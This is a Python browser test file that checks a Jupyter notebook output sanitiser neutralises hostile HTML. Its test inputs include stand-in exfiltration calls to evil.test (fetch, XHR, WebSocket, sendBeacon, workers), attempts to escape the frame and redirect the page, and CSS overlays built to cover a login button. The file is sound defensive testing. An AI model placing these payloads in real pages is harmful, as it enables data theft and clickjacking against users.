"""Filtered outputs in a real browser, put into the page as JupyterLab does: they run nothing, load nothing, cover nothing.

Canaries: `run()` counts what ran in the page, `requests` is what the browser asked the network for.
"""

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from attacks import HTML
from playwright.sync_api import Browser, Frame, Page, Route, sync_playwright

from homie_jupyter.safe import Filter

CHROMIUM = shutil.which("chromium") or ""
OUTPUTS = json.loads(Path(__file__).with_name("reprs.json").read_text())["outputs"]
HOME = "http://notebook.test/"
PAGE = """<!doctype html><meta charset="utf-8"><title>notebook</title>
<style>body { margin: 20px; width: 900px } .output { overflow-x: auto; margin: 40px 0 }</style>
<button id="log-in" style="width: 200px; height: 30px">of the page</button>
<main></main>
<script>
window.canary = 0; window.run = () => { window.canary++; };
window.show = (html) => {  // as JupyterLab's renderHTML does for trusted outputs
  const output = document.createElement("div");
  output.className = "output";
  output.innerHTML = html;
  document.querySelector("main").append(output);
  for (const old of output.querySelectorAll("script")) {
    const script = document.createElement("script");
    for (const { name, value } of old.attributes) script.setAttribute(name, value);
    script.textContent = old.textContent;
    old.replaceWith(script);
  }
};
window.poke = () => {  // every event that could be waited for
  for (const element of document.querySelectorAll("main *"))
    for (const name of ["click", "mouseover", "pointerenter", "focus", "toggle", "animationend", "error", "load", "start"]) {
      const event = new Event(name, { bubbles: true, cancelable: true });
      event.preventDefault();
      element.dispatchEvent(event);
    }
};
</script>"""
QUIET = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking"]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="not installed: chromium (apt-get install chromium)"),
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One for the module: while it is open no other test may run an event loop in this process."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield browser
        browser.close()


class Notebook:
    """A page that shows outputs."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[str] = []
        page.route("**/*", self._answer)
        page.goto(HOME)
        self.requests.clear()

    def _answer(self, route: Route) -> None:
        self.requests.append(route.request.url)
        if route.request.url == HOME:
            route.fulfill(body=PAGE, content_type="text/html")
        else:
            route.abort()

    def show(self, html: str) -> None:
        self.page.evaluate("html => window.show(html)", html)

    def settle(self) -> None:
        """Poke everything, and let what was begun come to its end: a picture of ours is asked for long after it."""
        self.page.evaluate("window.poke()")
        self.page.wait_for_timeout(300)
        self.page.evaluate(
            "new Promise(done => { const i = new Image(); i.onerror = done; i.src = '/last.png'; })"
        )
        self.requests.remove(HOME + "last.png")

    def hears(self, wanted: str) -> None:
        """Wait until such an address has been asked for; AssertionError after 10 s."""
        for _ in range(200):
            if any(wanted in url for url in self.requests):
                return
            self.page.wait_for_timeout(50)  # the page's events come meanwhile
        raise AssertionError(f"nobody asked for {wanted}: {self.requests}")

    @property
    def canary(self) -> int:
        count: int = self.page.evaluate("window.canary")
        return count

    def inside(self) -> Frame:
        """The frame of the peer's own document."""
        outer = self.page.wait_for_selector("iframe").content_frame()
        inner = outer.wait_for_selector("iframe[srcdoc]").content_frame()
        inner.wait_for_load_state()
        return inner


@pytest.fixture
def notebook(browser: Browser) -> Iterator[Notebook]:
    page = browser.new_page(viewport={"width": 1000, "height": 900})
    yield Notebook(page)
    page.close()


def filtered(name: str) -> str:
    output = OUTPUTS[name][-1]
    html: str = Filter().bundle(output["data"], output["metadata"]).data["text/html"]
    return html


def test_the_canaries_sing_for_unfiltered_outputs(notebook):
    for name in ("script", "image error", "svg load", "frame, document", "remote image", "import", "inline url"):
        notebook.show(HTML[name])
    notebook.settle()
    notebook.page.wait_for_function("window.canary >= 4")
    for wanted in ("evil.test/x.css", "evil.test/x.png"):
        notebook.hears(wanted)


def test_filtered_attacks_run_nothing_and_load_nothing(notebook):
    for attack in HTML.values():
        for mime, text in (("text/html", attack), ("text/markdown", f"# x\n\n{attack}\n")):
            notebook.show(Filter().bundle({mime: text}, {}).data.get("text/html", ""))
    notebook.settle()
    assert notebook.canary == 0
    assert notebook.requests == []
    assert notebook.page.url == HOME
    assert notebook.page.evaluate("document.title") == "notebook"
    assert notebook.page.evaluate("document.cookie") == ""


@pytest.mark.parametrize(
    "cover",
    [
        "<style>.x { --p: fixed; position: var(--p); inset: 0; z-index: 99999; height: 5000px }</style><div class=x>x</div>",
        "<div style='position: absolute; top: -900px; left: -900px; width: 5000px; height: 5000px; z-index: 99'>x</div>",
        "<div style='margin: -3000px; padding: 3000px; position: relative; z-index: 9; background: red'>x</div>",
        "<div style='transform: translate(-50px, -100px) scale(99); background: red'>x</div>",
        "</div></div></div></div><p style='position: absolute; top: 0; left: 0; width: 5000px; height: 5000px'>x</p>",
    ],
)
def test_no_output_covers_the_page(notebook, cover):
    notebook.show(Filter().bundle({"text/html": cover}, {}).data["text/html"])
    assert notebook.page.evaluate(AT_THE_BUTTON) == "log-in"


def test_the_covers_would_cover_the_page(notebook):
    notebook.show(
        "<div style='position: absolute; top: -900px; left: -900px; width: 5000px; height: 5000px'>x</div>"
    )
    assert notebook.page.evaluate(AT_THE_BUTTON) != "log-in"


AT_THE_BUTTON = """() => {
  const box = document.querySelector("#log-in").getBoundingClientRect();
  return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2).id;
}"""


def test_a_style_sheet_stays_in_its_output(notebook):
    style = "<style>button, :root button, * { color: red !important } body { display: none }</style><p>x</p>"
    before = notebook.page.evaluate("getComputedStyle(document.querySelector('#log-in')).color")
    notebook.show(Filter().bundle({"text/html": style}, {}).data["text/html"])
    assert notebook.page.evaluate("getComputedStyle(document.querySelector('main p')).color") == "rgb(255, 0, 0)"
    assert notebook.page.evaluate("getComputedStyle(document.querySelector('#log-in')).color") == before
    assert notebook.page.locator("#log-in").is_visible()


ESCAPE = """<p id="result">waits</p><img src="http://evil.test/picture"><base href="http://evil.test/">
<link rel="stylesheet" href="http://evil.test/sheet">
<script src="http://evil.test/script"></script><iframe src="http://evil.test/frame"></iframe>
<form action="http://evil.test/form"><input name="q"></form>
<script>
const tries = {
  parent: () => { parent.run(); }, top: () => { top.run(); }, page: () => { parent.parent.document.title = "x"; },
  moveTop: () => { top.location = "http://evil.test/top"; }, moveParent: () => { parent.location = "http://evil.test/parent"; },
  storage: () => { localStorage.x = 1; }, cookie: () => { document.cookie = "a=b"; },
  socket: () => { new WebSocket("ws://evil.test/socket"); }, source: () => { new EventSource("http://evil.test/source"); },
  beacon: () => { navigator.sendBeacon("http://evil.test/beacon"); }, open: () => { open("http://evil.test/open").x; },
  form: () => { document.forms[0].submit(); },
  request: () => { const r = new XMLHttpRequest(); r.open("GET", "http://evil.test/request"); r.send(); },
  worker: () => { new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.test/worker')"]))); },
  module: () => { import("http://evil.test/module").catch(() => 0); },
  fetch: () => { fetch("http://evil.test/fetch").catch(() => 0); },
  children: () => { for (const url of ["javascript:parent.parent.parent.run()", "data:text/html,<script>top.run()<\\/script>"]) {
    const f = document.createElement("iframe"); f.src = url; document.body.append(f); } },
  prefetch: () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "http://evil.test/prefetch"; document.head.append(l); },
  webrtc: () => { new RTCPeerConnection(); },
};
const done = Object.entries(tries).filter(([_, tried]) => { try { tried(); return true; } catch { return false; } });
document.getElementById("result").textContent = done.map(([name]) => name).join(" ");
</script>"""


def test_a_script_in_its_frame_reaches_nothing(notebook):
    notebook.show(Filter().bundle({"text/html": ESCAPE}, {}).data["text/html"])
    inner = notebook.inside()
    inner.wait_for_function("!['waits', undefined].includes(document.getElementById('result')?.textContent)")
    done = set(inner.evaluate("document.getElementById('result').textContent").split())
    assert not done & {"parent", "top", "page", "storage", "cookie", "open", "webrtc"}
    assert {"fetch", "request", "worker", "children"} <= done  # these are tried, and come to nothing
    notebook.settle()
    assert notebook.requests == []
    assert notebook.canary == 0
    assert notebook.page.url == HOME


@pytest.mark.parametrize(
    "leave",
    [
        "<script>location = 'http://evil.test/self'</script>",
        "<script>location.replace('http://evil.test/self')</script>",
        "<a id=a href=http://evil.test/>x</a><script>document.getElementById('a').click()</script>",
        "<a id=a href=http://evil.test/ target=_parent>x</a><script>document.getElementById('a').click()</script>",
        "<script>0</script><meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
        "<script>0</script><iframe src=http://evil.test/frame></iframe>",
        "<script>document.write('<iframe src=http://evil.test/frame></iframe>')</script>",
    ],
)
def test_a_frame_does_not_leave_for_another_address(notebook, leave):
    html = Filter().bundle({"text/html": leave}, {}).data["text/html"]
    refused = re.compile(
        r"violates the following Content Security Policy directive: .*frame-src|Unsafe attempt to initiate"
    )
    with notebook.page.expect_console_message(lambda message: bool(refused.search(message.text)), timeout=10_000):
        notebook.show(html)
    notebook.settle()
    assert notebook.requests == []
    assert notebook.page.url == HOME


def test_a_plotly_chart_zooms_by_the_mouse(notebook):
    notebook.show(filtered("plotly connected"))
    inner = notebook.inside()
    area = inner.wait_for_selector(".nsewdrag")
    axis = "JSON.stringify(document.querySelector('.plotly-graph-div')._fullLayout.xaxis.range)"
    before = inner.evaluate(axis)
    box = area.bounding_box()
    notebook.page.mouse.move(box["x"] + box["width"] * 0.3, box["y"] + box["height"] * 0.3)
    notebook.page.mouse.down()
    notebook.page.mouse.move(box["x"] + box["width"] * 0.6, box["y"] + box["height"] * 0.7, steps=8)
    notebook.page.mouse.up()
    inner.wait_for_function(f"{axis} !== {json.dumps(before)}")
    low, high = json.loads(inner.evaluate(axis))
    start, end = json.loads(before)
    assert start < low < high < end
    assert notebook.requests == []


def test_a_bokeh_chart_pans_by_the_mouse(notebook):
    notebook.show(filtered("bokeh"))
    inner = notebook.inside()
    start = "window.Bokeh?.documents[0]?.roots()[0].x_range.start"
    inner.wait_for_function(f"Number.isFinite({start})")
    inner.wait_for_function(
        "Bokeh.index && Object.keys(Bokeh.documents).length && document.body.scrollHeight > 200"
    )
    before = inner.evaluate(start)
    box = notebook.page.locator(".output iframe").bounding_box()
    notebook.page.mouse.move(box["x"] + 300, box["y"] + 150)
    notebook.page.mouse.down()
    notebook.page.mouse.move(box["x"] + 200, box["y"] + 150, steps=8)
    notebook.page.mouse.up()
    inner.wait_for_function(f"{start} > {before}")
    assert notebook.requests == []


@pytest.mark.parametrize("name", ["altair", "altair mimetype"])
def test_an_altair_chart_is_drawn(notebook, name):
    notebook.show(filtered(name))
    canvas = notebook.inside().wait_for_selector(".vega-embed canvas, .vega-embed svg.marks")
    assert canvas.bounding_box()["width"] > 100
    assert notebook.requests == []


def test_a_diagram_opens_by_its_label(notebook):
    notebook.show(filtered("sklearn"))
    content = notebook.page.locator("div[class*=sk-toggleable__content]").first
    assert not content.is_visible()
    notebook.page.locator("label[class*=sk-toggleable__label]").first.click()
    content.wait_for(state="visible")
    assert not notebook.page.locator(".sk-text-repr-fallback").is_visible()


def test_an_xarray_opens_by_its_icon(notebook):
    notebook.show(filtered("xarray"))
    data = notebook.page.locator("div.xr-var-data").first
    assert not data.is_visible()
    notebook.page.locator("label[title='Show/Hide data repr']").first.click()
    data.wait_for(state="visible")


def test_pictures_are_drawn(notebook):
    notebook.show(filtered("matplotlib svg"))
    notebook.page.wait_for_function("document.querySelector('main img').naturalWidth > 10")
    assert notebook.requests == []


def test_a_styler_table_has_its_colours(notebook):
    notebook.show(filtered("styler"))
    cell = "getComputedStyle(document.querySelector('td.row0.col0'))"
    assert notebook.page.evaluate(f"{cell}.color") == "rgb(255, 0, 0)"
    assert "linear-gradient" in notebook.page.evaluate(f"{cell}.backgroundImage")
